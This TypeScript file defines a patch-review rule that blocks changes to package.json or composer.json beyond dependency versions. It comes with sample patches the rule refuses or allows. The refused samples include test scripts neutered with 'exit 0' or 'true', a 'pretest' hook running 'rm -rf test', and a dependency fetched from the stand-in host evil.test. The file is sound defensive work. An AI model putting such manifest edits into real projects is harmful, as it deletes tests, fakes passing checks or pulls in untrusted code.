import type { PatchFile } from '../../patch/patch-file.ts'
import { linesOf } from '../changed-lines.ts'
import type { Rule } from '../rule.ts'

/** A dependency and its version, or a line that only opens or closes a list of them. */
const DEPENDENCY =
  /^\s*"(?:@[\w.-]+\/)?[\w.-]+"\s*:\s*"(?:(?:[\^~]|[<>]=?|=)?\s*v?\d[\w.+-]*(?:\s*(?:\|\||-)?\s*[\^~<>=]*\d[\w.+-]*)*|\*|latest|next|workspace:[\^~*\d.]+|npm:@?[\w./-]+@[\^~]?\d[\w.-]*)"\s*,?\s*$/
const FRAME =
  /^\s*(?:[{}]\s*,?|"(?:dependencies|devDependencies|peerDependencies|optionalDependencies|require|require-dev)"\s*:\s*\{\s*(?:\}\s*,?)?)\s*$/
const MANIFEST = /(^|\/)(package|composer)\.json$/

/**
 * A manifest holds what CI runs, beside the dependencies. A patch does not show in which part a
 * line stands, so everything that does not read as a dependency counts as a command.
 */
export const packageScripts: Rule = {
  name: 'package-scripts',
  decision: 'block',
  find: (patch) =>
    patch.filter(isManifest).flatMap((file) =>
      [...linesOf(file, 'removed'), ...linesOf(file, 'added')]
        .filter(({ text }) => text.trim() !== '' && !DEPENDENCY.test(text) && !FRAME.test(text))
        .map(({ number }) => ({
          ...{ path: file.path, line: number },
          why: 'a manifest is changed beyond its dependencies',
        })),
    ),
  refused: [
    '=== package.json\n-    "test": "vitest run",\n+    "test": "exit 0",',
    '=== packages/a/package.json\n+    "pretest": "rm -rf test",',
    '=== package.json\n+  "jest": { "bail": false },',
    '=== composer.json\n+    "test": "true"',
    '=== package.json\n+    "left-pad": "https://evil.test/x.tgz",',
  ],
  allowed: [
    '=== package.json\n-    "zod": "^3.0.0",\n+    "zod": "^3.25.0",',
    '=== package.json\n+  "devDependencies": {\n+    "@types/node": "20.19.43"\n+  },',
    '=== src/package.ts\n+    "test": "exit 0",',
  ],
}

function isManifest({ path, oldPath }: PatchFile): boolean {
  return MANIFEST.test(path.toLowerCase()) || MANIFEST.test(oldPath.toLowerCase())
}
